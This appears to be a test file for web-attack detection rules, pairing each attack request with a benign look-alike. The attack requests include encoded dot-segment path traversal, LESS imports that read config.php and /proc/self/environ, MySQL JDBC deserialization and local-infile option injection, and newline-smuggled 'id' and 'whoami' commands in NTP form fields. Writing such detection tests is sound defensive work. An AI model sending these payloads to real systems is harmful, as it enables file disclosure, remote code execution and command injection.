/**
 * Bundled rules of revs 2026-12-11j and 2026-12-11k (issue 18, session 29): classes held-out-22's misses showed after its blind
 * measurement, each written for the mechanism rather than the product and kept only with no benign hit. Each fires on
 * its attack, sent the way such an exploit sends it, and stays quiet on the benign request closest to it: a path with an
 * encoded tab in a segment's name, a theme's LESS importing its own mixins, a JDBC URL
 * with ordinary options, an NTP server list one a line.
 */
import { describe } from 'vitest';
import { type RuleCase, testPrefilterEntries, testRuleCases, useBundledRuleSet, get, postForm, postJson } from './bundled-requests.js';

const { hits, rules } = useBundledRuleSet();

const CASES: RuleCase[] = [
  [9001293, 'block', 'a dot segment split by an encoded tab ahead of the supervisor API', get('/api/hassio/app/.%09./supervisor/info'), get('/api/hassio/app/my%09app/supervisor.info')],
  [9001293, 'block', 'an encoded dot segment split by an encoded CR', get('/api/hassio/app/%2e%0d%2e/backups'), get('/files/report.%0d.txt/../x')],
  [9000494, 'block', 'a custom LESS setting inlining the forum config', postJson('/api/settings', '{"custom_less":".Header-title { color: #333; }\\n@import (inline) \'/var/www/flarum/config.php\';"}'), postJson('/api/settings', '{"custom_less":"@import (reference) \'../mixins.less\';\\n@import (inline) \'../vendor/normalize.css\';"}')],
  [9000494, 'block', 'an escaped-quote LESS import of /proc/self/environ', postJson('/api/settings', '{"custom_less":"@import (less) \\"/proc/self/environ\\";"}'), postJson('/api/settings', '{"custom_less":"@import (less) \\"/themes/base/variables.less\\";"}')],
  [9000494, 'block', 'a data-uri of a dot-dot config file', postJson('/api/settings', '{"custom_less":".x { content: data-uri(\'../config.php\'); }"}'), postJson('/api/settings', '{"custom_less":".logo { background: data-uri(\'../img/logo.png\'); }"}')],
  [9001027, 'block', 'MySQL driver options as a JSON object inside a JSON string', postJson('/api/rest_j/v1/data-source-manager/op/connect/json', '{"connectParams":{"host":"db.ykfbb.online","port":"3306","params":"{\\"autoDeserialize\\":\\"true\\",\\"queryInterceptors\\":\\"com.mysql.cj.jdbc.interceptors.ServerStatusDiffInterceptor\\"}"}}'), postJson('/api/rest_j/v1/data-source-manager/op/connect/json', '{"connectParams":{"host":"db.example.com","port":"3306","params":"{\\"useSSL\\":\\"true\\",\\"serverTimezone\\":\\"UTC\\"}"}}')],
  [9001027, 'block', 'a JSON property list with allowUrlInLocalInfile', postJson('/api/datasource', '{"properties":{"allowUrlInLocalInfile": "true","allowLoadLocalInfile":"true"}}'), postJson('/api/datasource', '{"properties":{"allowPublicKeyRetrieval":"true","useUnicode":"true"}}')],
  [9000396, 'block', 'an NTP server with a probe on the next line of a form value', postForm('/cgi-bin/time_tzsetup.cgi', 'cmd=set_timezone&ntp=1&ntp_server=pool.ntp.org\nid&timezone=GMT+8'), postForm('/cgi-bin/time_tzsetup.cgi', 'cmd=set_timezone&ntp=1&ntp_server=pool.ntp.org\ntime.nist.gov&timezone=GMT+8')],
  [9000396, 'block', 'an encoded line break before the probe', postForm('/DateSetting.cgi', 'szSrvIpAddr=time.windows.com%0Awhoami&dwTSyncEnable=1'), postForm('/DateSetting.cgi', 'szSrvIpAddr=time.windows.com%0Atime.nist.gov&dwTSyncEnable=1')],
];

describe('bundled rules from held-out-22\'s misses (rev 2026-12-11j, 2026-12-11k)', () => {
  testRuleCases(CASES, hits);
  testPrefilterEntries(CASES.map(([sid]) => sid), rules);
});
